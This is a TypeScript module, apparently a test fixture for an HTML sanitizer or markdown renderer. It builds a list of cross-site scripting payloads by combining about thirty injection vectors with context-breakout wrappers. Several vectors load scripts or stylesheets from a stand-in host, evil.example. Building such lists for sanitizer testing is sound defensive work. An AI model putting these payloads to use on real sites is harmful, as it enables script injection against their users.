/** Words that would run on a page that takes words for markup. Each reports itself to `window.ran`. */
const RUN = "window.ran=1";

const VECTORS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<body onload="${RUN}">`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<math><mtext></p><style><!--</style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.example/>`,
  `<form action=javascript:${RUN}><button>go</button></form>`,
  `<dialog open onclose="${RUN}">x</dialog>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>opener.ran=1</script>`,
  `[press](javascript:${RUN})`,
];

/** Ways to break out of where a text stands. */
const AROUND: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"'>${vector}`,
  (vector) => `</textarea></title></script>${vector}`,
  (vector) => `\u2028${vector}\u0000\u202E`,
  (vector) => `&lt;b&gt;${vector.replaceAll("<", "&#60;")}`,
  (vector) => `%3Cb%3E${encodeURIComponent(vector)}\ndata: ${vector}\n\nevent: everything`,
  (vector) => `]]>--!>${vector}`,
];

export const PAYLOADS = VECTORS.flatMap((vector) => AROUND.map((around) => around(vector)));
